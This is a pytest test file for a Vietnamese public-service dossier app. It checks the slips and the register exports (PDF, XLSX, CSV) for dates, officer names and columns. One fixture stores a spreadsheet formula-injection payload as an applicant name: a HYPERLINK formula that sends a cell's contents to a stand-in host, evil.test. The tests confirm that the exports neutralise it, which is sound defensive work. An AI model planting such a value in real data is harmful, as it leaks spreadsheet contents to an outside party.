"""The one-stop slips Mẫu 02–05 and the register Mẫu 06, field by field (domain.md §6)."""

import csv
import datetime
import io
import re
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from dossiers import services, slips
from dossiers.models import Dossier
from tests.dossiers.factories import submitted
from tests.pdf import pdf_layout_text, pdf_text

pytestmark = pytest.mark.django_db
HCM = ZoneInfo("Asia/Ho_Chi_Minh")


def local(text: str) -> datetime.datetime:
    return datetime.datetime.fromisoformat(text).replace(tzinfo=HCM)


def one_line(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture
def officers(desk):
    """The desk's officers with full names (family and middle names first, as in the demo)."""
    for role, (first, last) in {
        "receiving": ("Nguyễn Thị", "Hoa"),
        "specialist": ("Trần Văn", "Minh"),
        "leader": ("Lê Quang", "Huy"),
    }.items():
        desk[role].first_name, desk[role].last_name = first, last
        desk[role].save()
    return desk


@pytest.fixture
def processing(catalogue, officers):
    """A Long Biên dossier accepted on Monday 7/12 at 9:00 and forwarded to Phòng Tư pháp's
    specialist at 9:30 (a three-day procedure)."""
    procedure = catalogue["khai_tu"]
    procedure.level = 3
    procedure.save()
    with time_machine.travel(local("2026-12-07 08:00"), tick=False):
        dossier = submitted(procedure, catalogue["long_bien"])
    with time_machine.travel(local("2026-12-07 09:00"), tick=False):
        services.dossier_accept(dossier_id=dossier.pk, actor=officers["receiving"])
    with time_machine.travel(local("2026-12-07 09:30"), tick=False):
        services.dossier_forward(
            dossier_id=dossier.pk,
            actor=officers["receiving"],
            department=officers["justice"],
            assignee=officers["specialist"],
        )
    return Dossier.objects.select_related("procedure", "receiving_agency").get(pk=dossier.pk)


def test_mau_02_prints_the_portal_the_officer_and_the_documents(processing, officers):
    with time_machine.travel(local("2026-12-07 14:00"), tick=False):
        services.dossier_request_supplement(
            dossier_id=processing.pk,
            actor=officers["specialist"],
            documents=["Giấy báo tử"],
            reason="Bản chụp mờ",
        )
    text = one_line(pdf_text(slips.supplement_slip(processing.supplements.get())))
    assert "PHIẾU YÊU CẦU BỔ SUNG, HOÀN THIỆN HỒ SƠ (Mẫu 02)" in text
    assert "UBND PHƯỜNG LONG BIÊN" in text and "BỘ PHẬN TIẾP NHẬN VÀ TRẢ KẾT QUẢ" in text
    assert "Long Biên, ngày 07 tháng 12 năm 2026" in text
    assert "Giấy báo tử" in text and "Bản chụp mờ" in text
    assert "Cổng dịch vụ công tại https://dichvucong.test" in text
    assert "liên hệ Trần Văn Minh" in text


def test_mau_04_is_signed_by_the_agency_head(processing, officers):
    with time_machine.travel(local("2026-12-09 16:00"), tick=False):
        event = services.dossier_apologize(
            dossier_id=processing.pk,
            actor=officers["receiving"],  # the desk issues it; the head signs it
            new_due_at=local("2026-12-14 10:00"),
            reason="Chờ xác minh nơi cư trú",
        )
    content = slips.apology_slip(event)
    text = one_line(pdf_text(content))
    assert "PHIẾU XIN LỖI VÀ HẸN LẠI NGÀY TRẢ KẾT QUẢ (Mẫu 04)" in text
    assert "Long Biên, ngày 09 tháng 12 năm 2026" in text
    assert f"ngày 07/12/2026 (mã hồ sơ {processing.code})" in text
    assert "Thời gian hẹn trả kết quả giải quyết hồ sơ: 17:00 10/12/2026" in text
    assert "hẹn trả kết quả vào 10:00 14/12/2026" in text
    layout = pdf_layout_text(content)
    assert re.search(r"THỦ TRƯỞNG CƠ QUAN", layout)
    assert "Lê Quang Huy" in layout and "Nguyễn Thị Hoa" not in layout


def test_mau_05_names_people_and_judges_each_hand_over(processing, officers):
    content = slips.control_slip(processing)
    layout = pdf_layout_text(content)
    text = one_line(layout)
    assert "PHIẾU KIỂM SOÁT QUÁ TRÌNH GIẢI QUYẾT HỒ SƠ (Mẫu 05)" in text
    rows = slips.control_rows(processing)
    assert [
        (
            row["event"].action,
            row["from"],
            row["to"],
            row["giver"],
            row["receiver"],
            row["at"],
            str(row["result"]),
        )
        for row in rows
    ] == [
        (
            "accept",
            "Công dân",
            "Phường Long Biên",
            "Nguyễn Thị Hoa",
            "Nguyễn Thị Hoa",
            local("2026-12-07 09:00"),
            "Trước hạn",
        ),
        (
            "forward",
            "Phường Long Biên",
            "Phòng Tư pháp",
            "Nguyễn Thị Hoa",
            "Trần Văn Minh",
            local("2026-12-07 09:30"),
            "Trước hạn",
        ),
    ]
    assert "09 giờ 30 phút, 07/12/2026" in text
    assert "chuyenvien" not in text and "motcua" not in text  # names, not usernames


def test_mau_03_is_dated_the_day_of_the_refusal(catalogue, officers):
    with time_machine.travel(local("2026-12-07 15:00"), tick=False):
        dossier = submitted(catalogue["khai_sinh"], catalogue["long_bien"])
    with time_machine.travel(local("2026-12-08 08:10"), tick=False):
        event = services.dossier_refuse(
            dossier_id=dossier.pk, actor=officers["receiving"], reason="Không thuộc thẩm quyền"
        )
    content = slips.refusal_slip(event)
    text = one_line(pdf_text(content))
    assert "PHIẾU TỪ CHỐI TIẾP NHẬN GIẢI QUYẾT HỒ SƠ (Mẫu 03)" in text
    assert "Long Biên, ngày 08 tháng 12 năm 2026" in text
    assert "Không thuộc thẩm quyền" in text
    assert "Nguyễn Thị Hoa" in pdf_layout_text(content)


@pytest.fixture
def register_day(catalogue, officers):
    """Monday 7/12: one dossier accepted, one refused, one still waiting; another ward's one."""
    with time_machine.travel(local("2026-12-07 08:00"), tick=False):
        accepted = submitted(catalogue["khai_sinh"], catalogue["long_bien"])
        refused = submitted(catalogue["khai_sinh"], catalogue["long_bien"])
        waiting = submitted(catalogue["khai_sinh"], catalogue["long_bien"])
        theirs = submitted(catalogue["khai_sinh"], catalogue["ha_dong"])
    Dossier.objects.filter(pk=refused.pk).update(
        applicant_name='=HYPERLINK("http://evil.test/?x="&A1,"Bấm vào đây")'
    )
    with time_machine.travel(local("2026-12-07 09:15"), tick=False):
        services.dossier_accept(dossier_id=accepted.pk, actor=officers["receiving"])
        services.dossier_refuse(
            dossier_id=refused.pk, actor=officers["receiving"], reason="Sai thẩm quyền"
        )
        services.dossier_accept(dossier_id=theirs.pk, actor=officers["other_ward"])
    return {"accepted": accepted, "refused": refused, "waiting": waiting, "theirs": theirs}


def register(client, officers, fmt, start="2026-12-07", end="2026-12-07"):
    client.force_login(officers["receiving"])
    return client.get(
        reverse("admin:dossiers_dossier_register"), {"start": start, "end": end, "format": fmt}
    )


def test_mau_06_has_the_registers_columns_and_real_dates(client, officers, register_day):
    with time_machine.travel(local("2026-12-07 16:00"), tick=False):  # due today, not noted
        content = register(client, officers, "xlsx").content
    sheet = load_workbook(io.BytesIO(content)).active
    assert [cell.value for cell in sheet[3]] == [
        "STT",
        "Mã hồ sơ",
        "Nội dung (tên thủ tục)",
        "Số bộ",
        "Chủ hồ sơ",
        "Địa chỉ",
        "Điện thoại",
        "Cơ quan chủ trì giải quyết",
        "Ngày nhận",
        "Hẹn trả",
        "Ngày có kết quả",
        "Ngày trả",
        "Ký nhận",
        "Ghi chú",
    ]
    rows = list(sheet.iter_rows(min_row=4, values_only=True))
    accepted, refused = register_day["accepted"], register_day["refused"]
    assert [row[:2] for row in rows] == [(1, accepted.code), (2, refused.code)]
    first = rows[0]
    assert first[2:8] == (
        "Đăng ký khai sinh",
        1,
        "Nguyễn Văn An",
        accepted.applicant_address,
        "0912345678",
        "Phường Long Biên",
    )
    # Excel date cells (local time), not text; the same-day procedure is due at 17:00.
    assert first[8] == datetime.datetime(2026, 12, 7, 9, 15)
    assert first[9] == datetime.datetime(2026, 12, 7, 17, 0)
    assert first[10:13] == (None, None, None)
    assert first[13] == "Cán bộ tiếp nhận: Nguyễn Thị Hoa"
    assert sheet.cell(row=4, column=9).number_format == "dd/mm/yyyy hh:mm"
    # Refused at intake: marked, dated the refusal, and given no appointment.
    assert refused_row_matches(rows[1])
    assert sheet.cell(row=5, column=5).data_type == "s"  # the name stays text, not a formula


def refused_row_matches(row) -> bool:
    return (
        row[8] == datetime.datetime(2026, 12, 7, 9, 15)
        and row[9] is None
        and row[13] == "Từ chối tiếp nhận (Mẫu 03)"
        and row[4].startswith("=HYPERLINK")
    )


def test_mau_06_csv_neutralises_formulas_and_filters_by_acceptance_day(
    client, officers, register_day
):
    text = register(client, officers, "csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert [row[1] for row in rows[1:]] == [
        register_day["accepted"].code,
        register_day["refused"].code,
    ]
    assert rows[2][4] == "'" + '=HYPERLINK("http://evil.test/?x="&A1,"Bấm vào đây")'
    assert rows[1][8] == "07/12/2026 09:15" and rows[2][9] == ""
    # The waiting dossier was submitted that day but not accepted: not in the register.
    assert register_day["waiting"].code not in text
    # Accepted on the 7th: not in the register of the 8th.
    assert (
        register(client, officers, "csv", "2026-12-08", "2026-12-08")
        .content.decode("utf-8-sig")
        .count("\n")
        == 1
    )
